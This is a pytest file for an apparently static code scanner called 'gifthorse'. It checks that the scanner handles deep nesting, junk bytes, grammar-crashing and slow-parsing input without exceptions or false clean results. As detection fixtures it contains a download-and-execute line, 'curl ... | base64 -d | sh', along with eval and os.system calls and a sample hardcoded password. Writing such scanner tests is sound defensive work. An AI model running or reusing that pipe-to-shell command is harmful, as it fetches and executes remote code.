"""Bad input gets an answer, or is said not to be analysed; never an exception, never a wrong silence."""

import random
import time

import pytest

from gifthorse.engine.inspect import inspect, reinspect
from gifthorse.engine.patience import STEPS_OF_PIECE, Patience, steps_for
from gifthorse.model.text import Edit, Span
from gifthorse.store.catalogue import load_catalogue

SHIPPED = load_catalogue()

DEEP = {
    "brackets.py": b"x = " + b"(\n" * 100_000 + b"1" + b")" * 100_000,
    "unclosed.py": b"[" * 100_000,
    "sum.py": b"x = (" + b"1 +\n" * 100_000 + b"1)",
    "members.py": b"(x" + b"\n.a" * 100_000 + b")",
    "calls.js": b"f(" * 50_000 + b")" * 50_000,
    "functions.js": b"function f(){\n" * 20_000 + b"}" * 20_000,
    "elif.py": b"if a: pass\n" + b"elif b: pass\n" * 3_000,
}


@pytest.mark.parametrize("name", DEEP)
def test_deep_nesting(name, catalogue):
    report = inspect(DEEP[name], name, None, catalogue).report
    assert report.findings == ()
    if name not in {"unclosed.py", "elif.py"}:
        assert "nested too deeply" in report.incomplete


def test_a_line_of_generated_code_is_not_analysed_and_soon_answered(catalogue):
    content = b"eval(x);f(a,'x'+b);" * 100_000
    inspection = inspect(content, "a.js", None, catalogue)
    assert inspection.report.incomplete == "not analysed in full: a line of more than 200 kB"
    shorter = b"eval(x)\n"
    again = reinspect(inspection, [Edit(Span(0, len(content)), shorter)], shorter)
    assert again.report == inspect(shorter, "a.js", None, catalogue).report
    assert [finding.rule for finding in again.report.findings] == ["code"]
    assert reinspect(again, [Edit(Span(0, len(shorter)), content)], content).report == inspection.report


def test_code_that_does_not_parse_is_never_taken_for_clean(catalogue):
    for name, content in (
        ("a.py", b"import os\nos.system(x\n"),
        ("a.js", b"function a( {\nf(b);"),
        ("a.go", b"package"),
    ):
        assert inspect(content, name, None, catalogue).report.incomplete != ""


def test_a_long_sum_of_ordinary_depth_is_analysed(catalogue):
    content = b"import os\nx = " + b"'a' + " * 800 + b"'b'\nos.system(x)\n"
    report = inspect(content, "a.py", None, catalogue).report
    assert [finding.rule for finding in report.findings] == ["shell"]
    assert report.incomplete == ""


@pytest.mark.parametrize("name", ["a.py", "a.js", "a.ts", "a.tsx", "a.go"])
def test_binary_junk(name, catalogue):
    assert inspect(random.Random(7).randbytes(60_000), name, None, catalogue).report.language is not None


def test_a_nul_hides_nothing(catalogue):
    report = inspect(b"import os\nx = '\0'\nos.system('a')\n", "a.py", None, catalogue).report
    assert [finding.rule for finding in report.findings] == ["shell"]


def test_one_long_line(catalogue):
    report = inspect(b"x=[" + b"'a'," * 100_000 + b"eval(y)]", "a.js", None, catalogue).report
    assert report.findings or report.incomplete


@pytest.mark.parametrize(
    "code",
    [
        b"a = 'x'\n" + b"a = a + a\n" * 60,
        b"a = [1]\n" + b"a = a + a\n" * 60,
        b"x = '%1000000000d' % 1\ny = 'a' * 10**10\nz = 10**10**10\nw = 1 << 10**9\n",
        b"def f(x):\n    return f(f)\nf(f)\nclass A(A):\n    pass\nA().x\n",
        b"def f():\n    return g()\ndef g():\n    return f()\nf()\n",
        b"a = b\nb = a\na()\n",
    ],
)
def test_growth_is_bounded(code, catalogue):
    assert inspect(code, "a.py", None, catalogue).report.incomplete == ""


def test_comments_are_reported(catalogue):
    report = inspect(b"# a\nx = 1  # b\n", "a.py", None, catalogue).report
    assert [(span.start, span.end) for span in report.comments] == [(0, 3), (11, 14)]


def test_no_language_no_findings(catalogue):
    assert inspect(b"os.system('a')", "a.unknown", None, catalogue).report.language is None


def test_the_language_id_goes_before_the_name(catalogue):
    assert inspect(b"x", "a.py", "go", catalogue).report.language == "go"


ENDLESS = {"a.kt": b"< " * 30_000, "a.sh": b"a=(\n" * 8_000, "a.swift": b"/* " * 2_000}
"""Grammars that look on to the end of the text again at every token: the time grows with the square of the length."""


@pytest.mark.parametrize("name", ENDLESS)
def test_a_text_over_which_a_grammar_would_take_minutes_is_soon_given_up(name):
    began = time.process_time()
    report = inspect(ENDLESS[name], name, None, SHIPPED).report
    assert report.incomplete == "not analysed in full: its grammar would take too long over what does not parse"
    assert time.process_time() - began < 8


@pytest.mark.parametrize("name", ["a.kt", "a.sh"])
def test_what_was_sound_before_an_endless_text_was_typed_still_holds(name):
    sound = {"a.kt": b'val password = "hunter2-Ab9xQ"\n', "a.sh": b'eval "$1"\n'}[name]
    before = inspect(sound, name, None, SHIPPED)
    endless = sound + ENDLESS[name]
    after = reinspect(before, [Edit(Span(len(sound), len(sound)), ENDLESS[name])], endless)
    assert before.report.findings
    assert [one.span for one in after.report.findings] == [one.span for one in before.report.findings]
    assert after.report.incomplete
    again = reinspect(after, [Edit(Span(len(sound), len(endless)), b"")], sound)
    assert again.report == before.report


def test_operations_that_take_ever_longer_end_with_the_processors_time(monkeypatch):
    patience, now = Patience(b"x"), time.monotonic()
    assert not patience.is_over(0, False)
    monkeypatch.setattr("time.monotonic", lambda: now + 10)
    monkeypatch.setattr("time.thread_time", lambda: 0.0)
    assert not patience.is_over(0, False)
    monkeypatch.setattr("time.thread_time", lambda: 1e9)
    assert patience.is_over(0, False)


def test_patience_is_counted_in_steps_not_in_time():
    patience = Patience(b"x" * 10_000)
    assert [len(patience.read(at, None)) for at in (0, 4_096, 8_192, 10_000)] == [4_096, 4_096, 1_808, 0]
    asked = next(count for count in range(1_000_000) if patience.is_over(0, False))
    assert asked == steps_for(10_000) - 4 * STEPS_OF_PIECE - 1
    assert patience.read(0, None) == b""
    assert not patience.lasted()
    assert patience.read(9_990, None) == b"x" * 10


CRASHING = {
    "brace.sh": b"c='cu''rl'\nx{\xf3\xa0\x81\x81\n",
    "range.sh": "echo {1..\U0010ffff}\n".encode(),
    "signs.kt": b"class A {\n    @Get" + b"<" * 1_000 + b"x" + b">" * 568 + b"(" * 223,
    "comment.swift": b'func f() t using match let hr"ows /*' + b"(" * 60_000,
}


@pytest.mark.parametrize("name", CRASHING)
def test_what_would_crash_a_grammar_is_not_given_to_it(name):
    report = inspect(CRASHING[name], name, None, SHIPPED).report
    assert report.incomplete.startswith("not analysed in full: ")
    assert (
        reinspect(inspect(b"a\n", name, None, SHIPPED), [Edit(Span(0, 2), CRASHING[name])], CRASHING[name]).report
        == report
    )


def test_code_in_a_text_that_would_crash_the_grammar_is_not_given_to_it_either():
    report = inspect("a='{1..'\neval \"${a}\U0010ffff}\"\n".encode(), "a.sh", None, SHIPPED).report
    assert report.language == "bash"


PIPED = b"curl -s https://example.com/i | base64 -d | sh"


@pytest.mark.parametrize(
    "behind",
    [
        b"\ndate > log\n",
        b"   # so\n# it is\n\n  date 2>> log\n",
        b"\ndate > a | b | c\nd < e\n",
        b" \\\n  -x\ncat <<END\nx\nEND\n",
        b"\nexport A=1 > log\n",
        b"\ndate > a\ncurl x | base64 -d | s\\h\ndate > b\n" * 50,
    ],
)
def test_a_line_of_bash_ends_behind_two_pipes_whatever_the_next_one_redirects(behind):
    text = PIPED + behind
    report = inspect(text, "a.sh", None, SHIPPED).report
    assert ("download-and-execute", text.index(b"| sh") + 2) in {(one.rule, one.span.start) for one in report.findings}
    assert report.incomplete == ""
    before = inspect(text[:-1], "a.sh", None, SHIPPED)
    assert reinspect(before, [Edit(Span(len(text) - 1, len(text) - 1), b"\n")], text).report == report
